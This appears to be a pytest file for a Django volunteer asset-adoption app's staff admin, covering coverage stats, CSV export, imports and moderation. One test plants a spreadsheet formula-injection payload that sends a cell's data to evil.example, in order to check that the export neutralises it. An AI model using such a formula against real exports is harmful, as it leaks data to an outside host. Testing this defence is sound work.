"""Staff: coverage by type and area, overdue filter, ending with a reason, CSV export (emails
for superusers only), the file import; department staff see coverage, citizens nothing."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime, timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from adoptions.models import Adoption, Asset
from adoptions.rules import add_months
from adoptions.services.adoptions import adoption_end, adoption_start
from adoptions.services.care import care_log_add
from adoptions.services.reminders import reminders_send
from departments.models import Boundary
from tests.adoptions.conftest import AssetFactory, local
from tests.factories import BoundaryFactory, StaffMembershipFactory, square

pytestmark = pytest.mark.django_db

COVERAGE = reverse("admin:adoptions_adoption_coverage")
CHANGELIST = reverse("admin:adoptions_adoption_changelist")


@pytest.fixture
def department_staff(adoption_staff_group):
    membership = StaffMembershipFactory(user__username="transit-agent")
    membership.user.groups.add(adoption_staff_group)
    return membership.user


@pytest.fixture
def programme(asset_type, volunteer, other_volunteer):
    """Inside the area: one on time, one overdue, one available, one lapsed this month."""
    BoundaryFactory(name="Downtown", kind=Boundary.Kind.NEIGHBOURHOOD,
                    geometry=square(35.77, -78.65, 35.79, -78.63))  # fmt: skip
    inside = [AssetFactory(asset_type=asset_type) for _ in range(4)]
    AssetFactory(asset_type=asset_type, lat=35.85, long=-78.55)  # outside the area
    adoption_start(asset=inside[0], volunteer=volunteer, accept_terms=True)
    adoption_start(asset=inside[1], volunteer=other_volunteer, accept_terms=True,
                   now=local(2020, 1, 1))  # fmt: skip
    lapsed = adoption_start(asset=inside[3], volunteer=volunteer, accept_terms=True,
                            now=local(2020, 1, 1))  # fmt: skip
    adoption_end(adoption=lapsed, reason="lapsed")
    return inside


def test_department_staff_see_coverage_by_type_and_area(client, department_staff, programme):
    client.force_login(department_staff)
    response = client.get(COVERAGE)
    assert response.status_code == 200
    by_type = {row.name: row for row in response.context["by_type"]}
    shelters = by_type["Bus shelter"]
    assert (shelters.assets, shelters.adopted, shelters.overdue, shelters.lapsed) == (5, 2, 1, 1)
    assert shelters.percent == 40.0
    by_area = {row.name: row for row in response.context["by_area"]}
    downtown = by_area["Downtown (Neighbourhood)"]
    assert (downtown.assets, downtown.adopted, downtown.overdue, downtown.lapsed) == (4, 2, 1, 1)


def test_citizen_cannot_see_coverage_or_adoptions(client, citizen, programme):
    client.force_login(citizen)
    assert client.get(COVERAGE).status_code == 302  # to the admin login
    assert client.get(CHANGELIST).status_code == 302


def test_overdue_filter(client, department_staff, programme):
    client.force_login(department_staff)
    response = client.get(CHANGELIST, {"state": "overdue"})
    assert response.status_code == 200
    assert [a.due_on < date.today() for a in response.context["cl"].result_list] == [True]


def test_list_shows_display_names_not_emails(client, department_staff, programme, volunteer):
    client.force_login(department_staff)
    text = client.get(CHANGELIST).content.decode()
    assert "Maya R." in text and volunteer.email not in text


def test_an_adoption_page_shows_staff_no_reminder_token(client, department_staff, adoption):
    # The token stops the volunteer's reminders from a link: staff have no use for it.
    client.force_login(department_staff)
    response = client.get(reverse("admin:adoptions_adoption_change", args=[adoption.pk]))
    assert response.status_code == 200 and adoption.asset.name in response.content.decode()
    assert str(adoption.reminder_token) not in response.content.decode()


def test_staff_end_an_adoption_with_a_reason(client, department_staff, adoption):
    client.force_login(department_staff)
    url = reverse("admin:adoptions_adoption_end", args=[adoption.pk])
    assert client.post(url, {"note": ""}).status_code == 200  # the form again, with its error
    response = client.post(url, {"note": "The shelter is being replaced."})
    assert response.status_code == 302
    adoption.refresh_from_db()
    assert (adoption.end_reason, adoption.end_note, adoption.ended_by) == (
        "staff", "The shelter is being replaced.", department_staff,
    )  # fmt: skip


def test_ending_an_adoption_that_ended_meanwhile_says_so(client, department_staff, adoption):
    client.force_login(department_staff)
    url = reverse("admin:adoptions_adoption_end", args=[adoption.pk])
    assert client.get(url).status_code == 200  # the form is open...
    adoption_end(adoption=adoption, reason="released")  # ...when the volunteer releases it
    response = client.post(url, {"note": "The shelter is being replaced."})
    assert response.status_code == 200  # was a 500 (an error about no "adoption" field)
    assert "This adoption has already ended." in response.content.decode()
    assert Adoption.objects.get().end_reason == "released"


def test_end_page_with_a_mistyped_id_is_not_an_error(client, department_staff, adoption):
    client.force_login(department_staff)
    response = client.post(f"{CHANGELIST}{adoption.pk}x/end/", {"note": "x"}, follow=True)
    assert response.status_code == 200  # the admin's "doesn't exist" message, not a 500
    assert Adoption.objects.get().is_active


def test_citizen_cannot_end_an_adoption(client, citizen, adoption):
    client.force_login(citizen)
    client.post(reverse("admin:adoptions_adoption_end", args=[adoption.pk]), {"note": "x"})
    assert Adoption.objects.get().is_active


def export(client, user) -> str:
    client.force_login(user)
    ids = [str(pk) for pk in Adoption.objects.values_list("pk", flat=True)]
    response = client.post(CHANGELIST, {"action": "export_csv", "_selected_action": ids})
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def test_csv_export_has_no_email_for_department_staff(client, department_staff, programme,
                                                      volunteer):  # fmt: skip
    text = export(client, department_staff)
    assert "Maya R." in text and volunteer.email not in text and "volunteer_email" not in text
    assert len(text.strip().splitlines()) == 4  # header + 3 adoptions


def test_csv_export_has_emails_for_superusers(client, superuser, programme, volunteer):
    text = export(client, superuser)
    assert "volunteer_email" in text and volunteer.email in text


def test_import_upload_in_the_admin(client, superuser, asset_type):
    client.force_login(superuser)
    url = reverse("admin:adoptions_asset_import")
    upload = SimpleUploadedFile("s.csv", b"id,name,lat,long\nU1,Upload,35.78,-78.64\nU2,x,y,z\n")
    response = client.post(url, {"asset_type": asset_type.pk, "file": upload})
    assert response.status_code == 200 and "Line 3" in response.content.decode()
    assert Asset.objects.get(external_id="U1").name == "Upload"
    bad = SimpleUploadedFile("s.geojson", b"{oops")
    response = client.post(url, {"asset_type": asset_type.pk, "file": bad})
    assert "Refused, nothing imported" in response.content.decode()


def test_import_upload_with_a_nul_character_lists_its_row(client, superuser, asset_type):
    client.force_login(superuser)
    url = reverse("admin:adoptions_asset_import")
    upload = SimpleUploadedFile(
        "s.csv", b"id,name,lat,long\nU1,Up,35.78,-78.64\nU2,x\x00,35.78,-78.64\n"
    )
    response = client.post(url, {"asset_type": asset_type.pk, "file": upload, "dry_run": "on"})
    assert response.status_code == 200  # was a 500 on PostgreSQL
    assert "Line 3: it contains a NUL character" in response.content.decode()
    assert not Asset.objects.exists()


def test_import_upload_with_nan_in_a_feature_is_refused(client, superuser, asset_type):
    client.force_login(superuser)
    point = '"geometry": {"type": "Point", "coordinates": [-78.64, 35.78]}'
    good = f'{{"type": "Feature", "id": "U1", "properties": {{"depth": 2}}, {point}}}'
    bad = f'{{"type": "Feature", "id": "U2", "properties": {{"depth": NaN}}, {point}}}'
    text = f'{{"type": "FeatureCollection", "features": [{good}, {bad}]}}'
    upload = SimpleUploadedFile("s.geojson", text.encode())
    response = client.post(
        reverse("admin:adoptions_asset_import"), {"asset_type": asset_type.pk, "file": upload}
    )
    assert response.status_code == 200  # a 500: the database refused NaN
    assert "NaN is not a JSON number" in response.content.decode()  # not JSON: refused whole
    assert not Asset.objects.exists()


@pytest.mark.parametrize("typed", ["BS/12", ".."])
def test_an_asset_id_typed_in_the_admin_must_make_a_web_address(client, superuser, typed):
    asset = AssetFactory(external_id="BS-12")
    client.force_login(superuser)
    url = reverse("admin:adoptions_asset_change", args=[asset.pk])
    data = {"asset_type": asset.asset_type_id, "external_id": typed, "name": asset.name}
    data |= {"lat": asset.lat, "long": asset.long, "attributes": "{}", "active": "on"}
    response = client.post(url, data)
    assert response.status_code == 200 and "part of the asset&#x27;s web address" in (
        response.content.decode()
    )
    assert Asset.objects.get().external_id == "BS-12"
    # Saved, "BS/12" made /adopt/ a 500 for everyone (no address for its marker).
    assert client.get(reverse("adoptions:map")).status_code == 200


def test_staff_hide_a_care_note_from_the_public_page(client, superuser, adoption, volunteer):
    # A note is published as it is logged; staff had no way to take down an abusive one.
    log = care_log_add(
        adoption=adoption, volunteer=volunteer, day=timezone.localdate(), note="Call 555-0100"
    )
    page = adoption.asset.get_absolute_url()
    assert "Call 555-0100" in client.get(page).content.decode()
    client.force_login(superuser)
    logs = reverse("admin:adoptions_carelog_changelist")
    response = client.post(logs, {"action": "hide_notes", "_selected_action": [log.pk]})
    assert response.status_code == 302
    log.refresh_from_db()
    assert log.note_hidden and log.note == "Call 555-0100"  # kept, for staff
    client.logout()
    public = client.get(page).content.decode()
    assert "Call 555-0100" not in public and log.date.isoformat() in public  # the visit stays
    client.force_login(superuser)
    client.post(logs, {"action": "show_notes", "_selected_action": [log.pk]})
    client.logout()
    assert "Call 555-0100" in client.get(page).content.decode()


def test_staff_remove_a_nickname_from_the_public_page(client, department_staff, asset, volunteer):
    # The nickname is the heading of the shelter's page at once; staff could not take it down.
    adoption = adoption_start(
        asset=asset, volunteer=volunteer, accept_terms=True, nickname="Rude words"
    )
    client.force_login(department_staff)
    response = client.post(
        CHANGELIST, {"action": "remove_nicknames", "_selected_action": [adoption.pk]}
    )
    assert response.status_code == 302
    adoption.refresh_from_db()
    assert adoption.nickname == "" and adoption.is_active
    assert "Rude words" not in client.get(asset.get_absolute_url()).content.decode()


def test_department_staff_cannot_import(client, department_staff, asset_type):
    client.force_login(department_staff)
    assert client.get(reverse("admin:adoptions_asset_import")).status_code == 403


def test_flagged_assets_filter(client, department_staff, adoption):
    Asset.objects.filter(pk=adoption.asset_id).update(active=False, flagged_for_staff=True)
    client.force_login(department_staff)
    url = reverse("admin:adoptions_asset_changelist")
    response = client.get(url, {"flagged_for_staff__exact": "1"})
    assert [a.pk for a in response.context["cl"].result_list] == [adoption.asset_id]


def test_csv_export_keeps_a_volunteers_formula_from_running(client, superuser, adoption):
    Adoption.objects.update(nickname='=HYPERLINK("http://evil.example/?"&I2,"x")')
    rows = list(csv.DictReader(io.StringIO(export(client, superuser))))
    assert [row["nickname"] for row in rows] == ['\'=HYPERLINK("http://evil.example/?"&I2,"x")']


def change_cadence(client, superuser, asset_type, months: int):
    client.force_login(superuser)
    url = reverse("admin:adoptions_assettype_change", args=[asset_type.pk])
    response = client.post(url, {
        "name": asset_type.name, "slug": asset_type.slug, "cadence_months": str(months),
        "care_instructions": asset_type.care_instructions, "icon": asset_type.icon,
        "checklist": json.dumps(asset_type.checklist), "service": "", "active": "on",
    })  # fmt: skip
    assert response.status_code == 302


def test_changing_a_cadence_moves_the_current_due_dates(client, superuser, adoption, volunteer):
    """Adopted March 1st (due April 1st): at three months, counted from the day of the
    change, in the stored date the lists and the overdue filter read as in the reminders;
    ended adoptions stay."""
    released = adoption_start(
        asset=AssetFactory(asset_type=adoption.asset.asset_type), volunteer=volunteer,
        accept_terms=True, now=local(2026, 1, 31),
    )  # fmt: skip
    adoption_end(adoption=released, reason="released")
    asset_type = adoption.asset.asset_type
    change_cadence(client, superuser, asset_type, 3)
    adoption.refresh_from_db()
    released.refresh_from_db()
    today = timezone.localdate()
    assert adoption.due_on == add_months(today, 3) and released.due_on == date(2026, 2, 28)
    assert reminders_send(now=local(2026, 4, 2)) == {}  # not overdue any more
    due = adoption.due_on
    soon = timezone.make_aware(datetime(due.year, due.month, due.day, 9)) - timedelta(days=2)
    assert reminders_send(now=soon) == {"due_soon": 1}


def test_a_shorter_cadence_counts_from_the_change_and_lapses_nobody(
    client, superuser, asset_type, volunteer
):
    """Every 12 months, last visited ten months ago; made monthly: the months before the
    change are not ten missed periods (the adoption would lapse the next morning), the
    first visit by the new cadence is due a month after the change."""
    asset_type.cadence_months = 12
    asset_type.save()
    today = timezone.localdate()
    started = add_months(today, -11)
    adoption = adoption_start(
        asset=AssetFactory(asset_type=asset_type), volunteer=volunteer, accept_terms=True,
        now=timezone.make_aware(datetime(started.year, started.month, started.day, 9)),
    )  # fmt: skip
    care_log_add(adoption=adoption, volunteer=volunteer, day=add_months(today, -10))
    change_cadence(client, superuser, asset_type, 1)
    adoption.refresh_from_db()
    assert adoption.due_on == add_months(today, 1)
    tomorrow = timezone.now() + timedelta(days=1)
    assert reminders_send(now=tomorrow) == {}
    assert Adoption.objects.get(pk=adoption.pk).is_active
    due = adoption.due_on
    late = timezone.make_aware(datetime(due.year, due.month, due.day, 9)) + timedelta(days=1)
    assert reminders_send(now=late) == {"overdue": 1}
